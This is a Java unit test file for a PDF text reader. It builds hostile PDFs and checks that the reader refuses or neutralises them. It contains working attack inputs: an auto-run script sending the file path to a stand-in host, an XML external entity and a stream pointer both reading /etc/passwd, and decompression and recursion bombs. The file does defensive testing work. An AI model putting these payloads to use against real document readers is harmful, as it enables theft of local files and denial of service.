package io.broadsheet.reader.pdf;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.broadsheet.model.FailureCode;
import io.broadsheet.reader.InputBytes;
import io.broadsheet.reader.UnreadableArticleException;
import io.broadsheet.testing.Blocks;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSInteger;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.junit.jupiter.api.Test;

/** Files that were made to run something, to reach out, to fill the memory or to take for ever. */
final class HostilePdfTest {
    private static final String STORY = "The old bridge opens on Monday.";
    private static final byte[] MEGABYTE = new byte[1 << 20];

    private final PdfReader reader = new PdfReader(20_000);

    @Test
    void runsNoScript() throws UnreadableArticleException {
        PdfFile file = new PdfFile().line(50, 100, STORY);
        COSDictionary script = new COSDictionary();
        script.setItem(COSName.S, COSName.getPDFName("JavaScript"));
        script.setString(COSName.JS, "app.launchURL('http://osby.example/' + this.path)");
        file.document().getDocumentCatalog().getCOSObject().setItem(COSName.OPEN_ACTION, script);

        var document = reader.read(file.input());

        assertThat(Blocks.of(document)).containsExactly("TEXT: " + STORY);
        assertThat(Blocks.omissions(document))
                .containsExactly("part.script: holds scripts or actions, which were not run");
    }

    @Test
    void fillsNoForm() throws IOException, UnreadableArticleException {
        PdfFile file = new PdfFile().line(50, 100, STORY);
        COSStream xfa = file.stream();
        try (OutputStream out = xfa.createOutputStream()) {
            out.write("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"
                    .getBytes(StandardCharsets.UTF_8));
        }
        COSDictionary form = new COSDictionary();
        form.setItem(COSName.getPDFName("XFA"), xfa);
        file.document().getDocumentCatalog().getCOSObject().setItem(COSName.ACRO_FORM, form);

        var document = reader.read(file.input());

        assertThat(Blocks.of(document)).containsExactly("TEXT: " + STORY);
        assertThat(Blocks.omissions(document))
                .containsExactly("part.left-out: holds a form (XFA), of which only the pages were read");
    }

    @Test
    void readsNoStreamThatLiesElsewhere() throws IOException {
        PdfFile file = new PdfFile();
        COSStream contents = file.stream();
        contents.setItem(COSName.F, new COSString("file:///etc/passwd"));
        try (OutputStream out = contents.createOutputStream()) {
            out.write(' ');
        }

        assertRefused(withContents(file, contents), FailureCode.FILE_NO_TEXT);
    }

    @Test
    void refusesAPageThatUnpacksWithoutEnd() throws IOException {
        PdfFile bomb = new PdfFile();
        COSStream contents = bomb.stream();
        fill(contents, COSName.FLATE_DECODE, 100);

        assertRefused(withContents(bomb, contents), FailureCode.ARCHIVE_TOO_LARGE);
    }

    @Test
    void refusesAFontThatUnpacksWithoutEnd() throws IOException {
        PdfFile bomb = new PdfFile().line(50, 100, STORY);
        COSStream mapping = bomb.stream();
        fill(mapping, COSName.FLATE_DECODE, 100);
        bomb.current()
                .getResources()
                .getFont(COSName.getPDFName("R"))
                .getCOSObject()
                .setItem(COSName.TO_UNICODE, mapping);

        assertRefused(bomb.input(), FailureCode.ARCHIVE_TOO_LARGE);
    }

    @Test
    void doesNotMindLargePictures() throws IOException, UnreadableArticleException {
        PdfFile file = new PdfFile().line(50, 100, STORY).draw("/Im Do\n");
        COSStream picture = file.stream();
        fill(picture, COSName.FLATE_DECODE, 100);
        picture.setItem(COSName.TYPE, COSName.XOBJECT);
        picture.setItem(COSName.SUBTYPE, COSName.IMAGE);
        COSDictionary pictures = new COSDictionary();
        pictures.setItem(COSName.getPDFName("Im"), picture);
        file.current().getResources().getCOSObject().setItem(COSName.XOBJECT, pictures);

        assertThat(Blocks.of(reader.read(file.input()))).containsExactly("TEXT: " + STORY);
    }

    @Test
    void takesNothingFromAPageThatSaysItIsAPicture() throws IOException {
        PdfFile bomb = new PdfFile();
        COSStream contents = bomb.stream();
        contents.setItem(COSName.SUBTYPE, COSName.IMAGE);
        fill(contents, COSName.FLATE_DECODE, 100);

        assertRefused(withContents(bomb, contents), FailureCode.FILE_NO_TEXT);
    }

    @Test
    void refusesRowsWithoutEnd() throws IOException {
        PdfFile bomb = new PdfFile();
        COSStream contents = bomb.stream();
        fill(contents, COSName.FLATE_DECODE, 1);
        COSDictionary parameters = new COSDictionary();
        parameters.setItem(COSName.PREDICTOR, COSInteger.get(12));
        parameters.setItem(COSName.COLUMNS, COSInteger.get(2_000_000_000));
        contents.setItem(COSName.DECODE_PARMS, parameters);

        assertRefused(withContents(bomb, contents), FailureCode.ARCHIVE_TOO_LARGE);
    }

    @Test
    void refusesFormsThatDrawFormsThatDrawForms() throws IOException {
        PdfFile file = new PdfFile().draw("/F1 Do\n");
        COSDictionary forms = new COSDictionary();
        for (int i = 1; i <= 30; i++) {
            COSStream form = file.stream();
            form.setItem(COSName.TYPE, COSName.XOBJECT);
            form.setItem(COSName.SUBTYPE, COSName.FORM);
            COSArray box = new COSArray();
            for (int side : new int[] {0, 0, 600, 800}) {
                box.add(COSInteger.get(side));
            }
            form.setItem(COSName.BBOX, box);
            COSDictionary resources = new COSDictionary();
            resources.setItem(COSName.XOBJECT, forms);
            form.setItem(COSName.RESOURCES, resources);
            try (OutputStream out = form.createOutputStream()) {
                String draws = "q Q ".repeat(50) + "/F" + (i + 1) + " Do\n";
                out.write(draws.repeat(10).getBytes(StandardCharsets.US_ASCII));
            }
            forms.setItem(COSName.getPDFName("F" + i), form);
        }
        file.current().getResources().getCOSObject().setItem(COSName.XOBJECT, forms);

        assertRefused(file.input(), FailureCode.ARTICLE_TOO_LONG);
    }

    @Test
    void refusesMoreLettersThanAnArticleMayHave() {
        PdfFile file = new PdfFile();
        for (int i = 0; i < 700; i++) {
            file.line(50, 1 + i, "word ".repeat(20) + i);
        }

        assertRefused(file.input(), FailureCode.ARTICLE_TOO_LONG);
    }

    @Test
    void refusesMorePagesThanAnArticleMayHave() {
        PdfFile file = new PdfFile();
        for (int i = 0; i < 2001; i++) {
            file.line(50, 100, "a").page();
        }

        assertRefused(file.input(), FailureCode.ARTICLE_TOO_LONG);
    }

    @Test
    void refusesADamagedFile() {
        byte[] whole = new PdfFile().line(50, 100, STORY).bytes();
        byte[] mutated = whole.clone();
        Arrays.fill(mutated, 30, mutated.length - 30, (byte) '[');

        assertRefused(input("%PDF-1.7".getBytes(StandardCharsets.US_ASCII)), FailureCode.FILE_BROKEN);
        assertRefused(input(Arrays.copyOf(whole, 200)), FailureCode.FILE_BROKEN);
        assertRefused(input(mutated), FailureCode.FILE_BROKEN);
        assertRefused(
                input(("%PDF-1.7\n1 0 obj\n" + "[".repeat(1_000_000) + "\nendobj\ntrailer <</Root 1 0 R>>")
                        .getBytes(StandardCharsets.US_ASCII)),
                FailureCode.FILE_BROKEN);
    }

    @Test
    void readsAFileWhoseTableOfContentsIsLost() throws UnreadableArticleException {
        byte[] whole = new PdfFile().line(50, 100, STORY).bytes();
        String text = new String(whole, StandardCharsets.ISO_8859_1).replaceAll("startxref\\s+\\d+", "startxref\n7");

        assertThat(Blocks.of(reader.read(input(text.getBytes(StandardCharsets.ISO_8859_1)))))
                .containsExactly("TEXT: " + STORY);
    }

    @Test
    void survivesLettersAtPlacesThatAreNone() throws UnreadableArticleException {
        PdfFile file = new PdfFile()
                .line(50, 100, STORY)
                .draw("BT /R 1e30 Tf 1 0 0 1 1e38 1e38 Tm (far) Tj ET\n")
                .draw("BT /R 0 Tf (none) Tj ET\n")
                .draw("BT /R -10 Tf -1 0 0 1 300 300 Tm (mirror) Tj ET\n");

        assertThat(String.join("", Blocks.of(reader.read(file.input())))).contains(STORY);
    }

    private static void fill(COSStream stream, COSName filter, int megabytes) throws IOException {
        try (OutputStream out = stream.createOutputStream(filter)) {
            for (int i = 0; i < megabytes; i++) {
                out.write(MEGABYTE);
            }
        }
    }

    /** A file whose last page has these contents. */
    private static InputBytes withContents(PdfFile file, COSStream contents) {
        var broken = file.current();
        file.page();
        broken.getCOSObject().setItem(COSName.CONTENTS, contents);
        return file.input();
    }

    private static InputBytes input(byte[] bytes) {
        return new InputBytes("a", "a.pdf", bytes);
    }

    private void assertRefused(InputBytes input, FailureCode code) {
        assertThatThrownBy(() -> reader.read(input)).isInstanceOfSatisfying(UnreadableArticleException.class, e -> {
            assertThat(e.code()).as(e.explanation()).isEqualTo(code);
            assertThat(e.explanation()).contains(";");
        });
    }
}
